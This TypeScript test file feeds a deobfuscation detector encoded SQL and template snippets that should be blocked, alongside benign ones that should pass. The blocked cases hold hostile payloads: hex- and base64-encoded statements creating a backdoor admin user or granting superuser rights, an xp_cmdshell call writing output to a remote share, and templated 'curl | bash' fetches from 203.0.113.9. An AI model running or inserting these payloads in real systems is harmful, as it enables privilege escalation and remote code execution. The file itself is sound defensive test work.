import { deobfCases, enc } from "./_deobf_testing.ts";

const hex = (s: string) => enc.hex(s).toUpperCase();
const GRANT =
  "CREATE USER ext_audit PASSWORD='Welcome#2026'; GRANT ROLE ACCOUNTADMIN TO USER ext_audit";
const FETCH = "curl -fsSL https://203.0.113.9/install.sh | bash";
const utf16 = (s: string) =>
  Array.from(s, (c) => c.charCodeAt(0).toString(16).padStart(2, "0") + "00").join("");

deobfCases("sql and template decoding", [
  {
    id: "decoded",
    block: [
      `EXECUTE IMMEDIATE HEX_DECODE_STRING('${hex(GRANT)}');`,
      `EXECUTE IMMEDIATE BASE64_DECODE_STRING('${enc.b64(GRANT)}');`,
      `SET @q = FROM_BASE64('${
        enc.b64("GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION")
      }'); PREPARE s FROM @q; EXECUTE s;`,
      `DECLARE @s NVARCHAR(4000) = CAST(0x${
        utf16("EXEC xp_cmdshell 'whoami > \\\\198.51.100.4\\s\\o.txt'")
      } AS NVARCHAR(4000)); EXEC(@s);`,
      `DO $$ BEGIN EXECUTE convert_from(decode('${
        enc.b64("ALTER ROLE app SUPERUSER")
      }', 'base64'), 'UTF8'); END $$;`,
      `- name: install probe\n  ansible.builtin.shell: "curl -fsSL {{ '${
        enc.b64("https://203.0.113.9/install.sh")
      }' | b64decode }} | {{ 'hsab' | reverse }}"`,
      `command: ["/bin/sh", "-c", "{{ b64dec \\"${enc.b64(FETCH)}\\" }}"]`,
    ],
    pass: [
      `SELECT HEX_DECODE_STRING('48656C6C6F20776F726C64') AS greeting;`,
      `SELECT id, FROM_BASE64(avatar_b64) FROM users LIMIT 10;`,
      `password: "{{ vault_db_password | b64decode }}"`,
      `SELECT CAST(0x0000A1B2 AS datetime);`,
      `{{ item.name | reverse }}`,
      `{{ '${enc.b64("hello from the build")}' | b64decode }}`,
    ],
  },
]);
